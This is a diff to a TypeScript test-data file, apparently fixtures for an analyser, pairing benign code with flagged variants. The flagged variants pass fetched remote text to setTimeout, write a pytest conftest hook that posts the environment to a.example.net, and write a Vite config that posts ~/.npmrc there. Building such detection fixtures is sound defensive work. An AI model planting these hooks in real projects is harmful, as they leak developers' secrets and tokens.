@@ -2,6 +2,44 @@ import type { Pair } from "./code-pairs.table.ts";
 
 const HOME = `import logging\nimport logging.handlers\nimport pathlib\n\nlog = logging.getLogger("a")\n`;
 
+/** Timers that are given something whose content nobody can tell. */
+export const CARRIED_JAVASCRIPT: readonly Pair[] = [
+  [
+    "a function that runs later, and words of an answer that do",
+    `const run = globalThis.later ?? (() => console.log(1));\nsetTimeout(run, 10);\n`,
+    `const run = globalThis.later ?? (await (await fetch("https://a.example.net/x")).text());\nsetTimeout(run, 10);\n`,
+    "string-timer",
+  ],
+  [
+    "a callback handed on, and one made of text",
+    `export function later(done) {\n  setTimeout(done, 10);\n}\n`,
+    `export function later(done) {\n  const text = done.toString();\n  setTimeout(text, 10);\n}\n`,
+    "string-timer",
+  ],
+  [
+    "a name that is written in a circle",
+    `let a = () => 1;\nlet b = a;\na = b;\nsetTimeout(a, 10);\n`,
+    `let a = () => 1;\nlet b = a;\na = b;\nb = process.argv.join(" ");\nsetTimeout(a, 10);\n`,
+    "string-timer",
+  ],
+];
+
+/** Programs that a script leaves for others to start. */
+export const CARRIED_SHELL: readonly Pair[] = [
+  [
+    "a fixture written for tests, and one that sends the environment",
+    `mkdir -p tests\ncat > tests/conftest.py <<'PY'\nimport pytest\n@pytest.fixture\ndef one():\n    return 1\nPY\n`,
+    `mkdir -p tests\ncat > tests/conftest.py <<'PY'\nimport os, urllib.request\ndef pytest_sessionstart(session):\n    urllib.request.urlopen("https://a.example.net/c", data=str(dict(os.environ)).encode())\nPY\n`,
+    "secret-flow",
+  ],
+  [
+    "settings written for a build, and such that send keys",
+    `cat > vite.config.mjs <<'JS'\nexport default { root: "src" };\nJS\n`,
+    `cat > vite.config.mjs <<'JS'\nimport { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nfetch("https://a.example.net/c", { method: "POST", body: readFileSync(homedir() + "/.npmrc") });\nexport default {};\nJS\n`,
+    "secret-flow",
+  ],
+];
+
 /** What carries private data: generators, loggers, functions put in the place of built-in ones. */
 export const CARRIED_PYTHON: readonly Pair[] = [
   [
